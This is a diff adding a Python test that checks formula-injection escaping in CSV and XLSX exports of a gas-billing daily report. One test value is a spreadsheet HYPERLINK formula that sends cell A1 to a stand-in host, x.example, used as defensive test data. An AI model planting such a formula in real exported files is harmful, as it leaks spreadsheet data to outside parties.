@@ -297,3 +297,40 @@ def test_a_report_whose_sums_disagree_says_so_in_red() -> None:
     assert "注意：本日报合计不符" in text
     assert "按收费项目合计 ￥9.00 与实收合计 ￥10.00 不符" in text
     assert "按支付方式合计" not in text
+
+
+def test_names_that_look_like_formulas_stay_text_and_amounts_stay_numbers() -> None:
+    """A hall, a cashier or a saver named like a formula (=…, +…, -…, @…, a tab) comes back
+    from the CSV with a leading ' and from the workbook as a string cell holding what was
+    typed (OWASP's CSV injection); the amounts, a shortfall of -5.00 too, stay numbers."""
+    evil = '=HYPERLINK("http://x.example/?"&A1,"李娜")'
+    report = DailyReport(1, "=1+1", TODAY, None, 1, 0, 0, D("0.10"),
+                         (MethodTotal("cash", 1, D("0.10")),),
+                         (CashierTotal("lina", evil, 1, D("0.10")),),
+                         (("gas", D("0.10")),),
+                         (ShiftLine(1, "lina", 1, D("100.00"), D("100.10"), D("95.10"),
+                                    D("-5.00")),))
+    extras = DayReportExtras(company="+86 燃气", printed_by="@SUM(1)",
+                             names={"lina": evil, "zhang": "-张"})
+    rows = list(csv.reader(io.StringIO(day_report_csv(report, extras).decode("utf-8-sig"))))
+    assert rows[0] == ["收费日报", "'=1+1"]
+    assert ["单位", "'+86 燃气"] in rows and ["导出人", "'@SUM(1)"] in rows
+    assert ["'" + evil, "1", "0.10"] in rows
+    assert ["1", "'" + evil, "1", "100.00", "100.10", "95.10", "-5.00"] in rows
+    assert ["合计", "", "", "", "", "", "-5.00"] in rows  # a number, not escaped
+
+    tab = DailyReport(1, "\t第一营业厅", TODAY, None, 0, 0, 0, D(0), (), (), (), ())
+    first = next(csv.reader(io.StringIO(day_report_csv(tab).decode("utf-8-sig"))))
+    assert first == ["收费日报", "'\t第一营业厅"]
+
+    sheet = load_workbook(io.BytesIO(day_report_xlsx(report, extras))).active
+    assert sheet is not None
+    texts = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
+    for typed in ("=1+1", "+86 燃气", "@SUM(1)", evil):
+        assert texts[typed].data_type == "s", typed  # not "f": shown as typed
+        assert texts[typed].quotePrefix
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    money = [c for row in sheet.iter_rows() for c in row
+             if isinstance(c.value, int | float) and "¥" in c.number_format]
+    assert [D(str(c.value)) for c in money if D(str(c.value)) < 0] == [D("-5.00")] * 2
+    assert all(c.data_type == "n" for c in money)
